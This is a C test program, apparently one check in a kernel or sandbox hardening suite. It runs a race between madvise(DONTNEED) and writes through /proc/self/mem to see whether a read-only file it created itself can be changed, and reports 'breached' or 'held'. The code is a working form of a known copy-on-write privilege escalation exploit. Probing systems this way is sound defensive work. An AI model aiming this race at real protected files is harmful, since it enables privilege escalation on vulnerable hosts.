// args: [seconds, default 2]
// KRN-09: race writes through /proc/self/mem against madvise(DONTNEED) on a private
// read-only map. The target is our own read-only file.
#include "attack.h"

static const char text[] = "this page must stay as it is";
static char *map;
static volatile int stop;

static void *drop(void *unused) {
    while (!stop) madvise(map, 4096, MADV_DONTNEED);
    return NULL;
}

static void *poke(void *p) {
    int fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (fd < 0) {
        *(int *)p = errno;
        return NULL;
    }
    while (!stop) (void)!pwrite(fd, "DIRTY", 5, (off_t)(uintptr_t)map);
    close(fd);
    return NULL;
}

int main(int argc, char **argv) {
    int seconds = argc > 1 ? atoi(argv[1]) : 2;
    char path[256], page[4096];
    snprintf(path, sizeof path, "%s/krn09.%d", writable_dir(), (int)getpid());
    int w = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0444);
    memset(page, 0, sizeof page);
    memcpy(page, text, sizeof text);
    if (w < 0 || write(w, page, sizeof page) != sizeof page) {
        BREACH("could not make the target: %s", ename(errno));
        return 0;
    }
    fsync(w);
    close(w);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (map == MAP_FAILED) {
        BREACH("could not map the target: %s", ename(errno));
        return 0;
    }
    pthread_t a, b;
    int err = 0;
    pthread_create(&a, NULL, drop, NULL);
    pthread_create(&b, NULL, poke, &err);
    uint64_t end = now_ms() + (uint64_t)seconds * 1000;
    bool changed = false;
    char now[sizeof text];
    while (now_ms() < end && !changed) {
        sleep_ms(20);
        changed = pread(fd, now, sizeof now, 0) != sizeof now || memcmp(now, text, sizeof text);
    }
    stop = 1;
    pthread_join(a, NULL);
    pthread_join(b, NULL);
    unlink(path);
    if (changed)
        breached("the read-only file changed");
    else
        held("file unchanged after %d s", seconds);
    if (err) held("/proc/self/mem not writable (%s)", ename(err));
    return verdict();
}
